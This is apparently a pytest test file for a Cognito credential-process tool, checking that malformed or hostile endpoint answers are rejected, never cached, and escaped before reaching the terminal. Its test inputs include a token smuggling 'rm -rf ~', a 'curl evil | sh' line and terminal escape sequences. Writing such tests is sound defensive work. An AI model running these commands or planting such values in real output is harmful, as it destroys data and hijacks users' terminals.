"""Attack: a hostile or broken endpoint (a proxy, a mistyped endpoint_url, a service
on the network path) answers nonsense. Nothing it sends may be printed or cached
unless it has the shape the API promises; its words reach the terminal defanged."""

from __future__ import annotations

import json
import time
from typing import Any

import pytest

from ..conftest import Workspace
from ..json_endpoint import Answer
from .hostile_server import credentials, happy, hostile, section, tokens

pytestmark = pytest.mark.integration
ESC = "\x1b"


def run(ws: Workspace, respond: Any, clock_offset: float = 0.0, *args: str) -> Any:
    with hostile(respond, clock_offset) as endpoint:
        ws.write_config(section(endpoint))
        return ws.run(*(args or ("--profile", "dev")), env={"COGNITO_CREDPROC_PASSWORD": "pw-1"})


def answering(operation_name: str, answer: Answer) -> Any:
    def respond(operation: str, request: dict[str, Any]) -> Answer:
        return answer if operation == operation_name else happy(operation, request)

    return respond


def cached(ws: Workspace, kind: str) -> list[str]:
    return sorted(p.name for p in ws.cache.glob(f"{kind}-*.json")) if ws.cache.exists() else []


@pytest.mark.parametrize(
    ("name", "answer"),
    [
        ("key id a number", credentials(AccessKeyId=12345678901234567890)),
        ("secret a list", credentials(SecretKey=["a", "b"])),
        ("token with a newline", credentials(SessionToken="abc\nexport EVIL=1")),
        ("token with a quote", credentials(SessionToken="abc'; rm -rf ~; '")),
        ("key id with escapes", credentials(AccessKeyId="ASIA\x1b]0;pwned\x07")),
        ("expiration a string", credentials(expiration="tomorrow")),
        ("expiration inside the margin", credentials(expiration=time.time() + 120)),
        ("expiration in the past", credentials(expiration=time.time() - 10)),
        ("credentials a string", {"Credentials": "x"}),
    ],
)
def test_malformed_credentials_are_neither_printed_nor_cached(
    ws: Workspace, name: str, answer: dict[str, Any]
) -> None:
    done = run(ws, answering("GetCredentialsForIdentity", (200, answer)))
    assert done.returncode == 1, (name, done.stdout)
    assert done.stdout == ""
    assert done.stderr.startswith("cognito-credproc: profile dev: ")
    assert "unexpected error" not in done.stderr and ESC not in done.stderr
    assert cached(ws, "credentials") == []


@pytest.mark.parametrize(
    ("name", "answer"),
    [
        ("exp a string", tokens(exp="soon")),
        ("exp not finite", tokens(exp=1e400)),
        ("username with escapes", tokens(**{"cognito:username": "alice\x1b[2J"})),
        ("id token a number", {"AuthenticationResult": {"IdToken": 7, "AccessToken": "x"}}),
        ("result a list", {"AuthenticationResult": [1]}),
    ],
)
def test_malformed_tokens_are_neither_used_nor_cached(
    ws: Workspace, name: str, answer: dict[str, Any]
) -> None:
    done = run(ws, answering("InitiateAuth", (200, answer)))
    assert done.returncode == 1, (name, done.stdout)
    assert done.stdout == ""
    assert done.stderr.startswith("cognito-credproc: profile dev: ")
    assert "unexpected error" not in done.stderr and ESC not in done.stderr
    assert cached(ws, "signin") == []


def test_a_clock_two_days_off_is_an_error_not_two_days_of_dead_keys(ws: Workspace) -> None:
    two_days = 2 * 86400.0

    def respond(operation: str, request: dict[str, Any]) -> Answer:
        # The service's own idea of time, two days ahead of this machine.
        if operation == "GetCredentialsForIdentity":
            return 200, credentials(expiration=time.time() + two_days + 3600)
        if operation == "InitiateAuth":
            return 200, tokens(exp=int(time.time() + two_days + 3600))
        return happy(operation, request)

    first = run(ws, respond, two_days)
    assert first.returncode == 1
    assert "fix the clock" in first.stderr and first.stdout == ""
    # A cache entry carrying such a skew (written by an older version, or planted) is a
    # miss, never served as if the skew were zero.
    again = run(ws, respond, two_days)
    assert again.returncode == 1 and again.stdout == ""


def test_a_stored_skew_over_a_day_is_not_served(ws: Workspace) -> None:
    from cognito_credproc.cache import FileCache
    from cognito_credproc.config import load_profile

    with hostile(happy) as endpoint:
        ws.write_config(section(endpoint))
        profile = load_profile(str(ws.config), "dev", {})
        # Fetched while the clock was two days behind: by the service's clock these
        # expired long ago, by ours they would look good for two more days.
        FileCache(str(ws.cache))[profile.credentials_key] = {
            **credentials(expiration=time.time() + 2 * 86400)["Credentials"],
            "SecretAccessKey": "stale-secret",
            "version": 1,
            "skew": 2 * 86400 + 3000,
            "fetched_at": time.time() - 3000,
        }
        done = ws.run("--profile", "dev")  # no password: a miss must say login
    assert done.returncode == 1
    assert "stale-secret" not in done.stdout and done.stdout == ""


def test_service_messages_cannot_drive_the_terminal(ws: Workspace) -> None:
    message = "denied\x1b]0;owned\x07\x1b[2J\r\nrun: curl evil | sh\u202e"
    done = run(
        ws, answering("GetId", (400, {"__type": "NotAuthorizedException", "message": message}))
    )
    assert done.returncode == 1
    assert ESC not in done.stderr and "\x07" not in done.stderr and "\u202e" not in done.stderr
    assert "\nrun: curl" not in done.stderr  # no line of its own
    assert "\\x1b]0;owned" in done.stderr  # shown, escaped


def test_cached_values_cannot_drive_the_terminal(ws: Workspace) -> None:
    from cognito_credproc.cache import FileCache
    from cognito_credproc.config import load_profile

    ws.write_config(section("http://127.0.0.1:9"))
    profile = load_profile(str(ws.config), "dev", {})
    FileCache(str(ws.cache))[profile.identity_key] = {
        "version": 1,
        "identity_id": "us-east-1:\x1b]0;owned\x07",
    }
    done = ws.run("status", "--profile", "dev")
    assert done.returncode == 0, done.stderr
    assert ESC not in done.stdout and "\x07" not in done.stdout
    as_json = ws.run("status", "--profile", "dev", "--json")
    assert ESC not in as_json.stdout
    assert json.loads(as_json.stdout)["profiles"][0]["identity_id"] is None
